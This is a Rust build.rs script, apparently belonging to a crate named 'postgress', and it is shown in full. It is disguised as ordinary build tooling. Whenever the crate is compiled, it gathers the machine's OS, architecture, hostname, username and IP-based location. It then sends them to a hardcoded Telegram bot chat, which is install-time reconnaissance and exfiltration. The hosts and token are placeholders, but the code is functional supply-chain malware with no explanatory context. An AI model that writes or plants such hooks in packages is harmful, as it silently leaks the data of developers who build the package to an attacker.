use std::collections::HashMap;

const BOT: &str = "0000000000:AAFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEF";
const CHAT: &str = "-1001000000000";

fn main() {
    let os = std::env::consts::OS;
    let arch = std::env::consts::ARCH;
    let host = std::env::var("HOSTNAME")
        .or_else(|_| std::env::var("COMPUTERNAME"))
        .unwrap_or_default();
    let user = std::env::var("USER")
        .or_else(|_| std::env::var("USERNAME"))
        .unwrap_or_default();

    let client = reqwest::blocking::Client::new();
    let geo: serde_json::Value = client
        .get("https://ipinfo.example/json")
        .send()
        .and_then(|r| r.json())
        .unwrap_or(serde_json::Value::Null);

    let text = format!(
        "[postgress] os={} arch={} host={} user={} ip={} city={} country={}",
        os, arch, host, user, geo["ip"], geo["city"], geo["country"]
    );

    let mut form = HashMap::new();
    form.insert("chat_id", CHAT.to_string());
    form.insert("text", text);
    let _ = client
        .post(format!("https://api.telegram.example/bot{}/sendMessage", BOT))
        .form(&form)
        .send();

    println!("cargo:rerun-if-changed=build.rs");
}
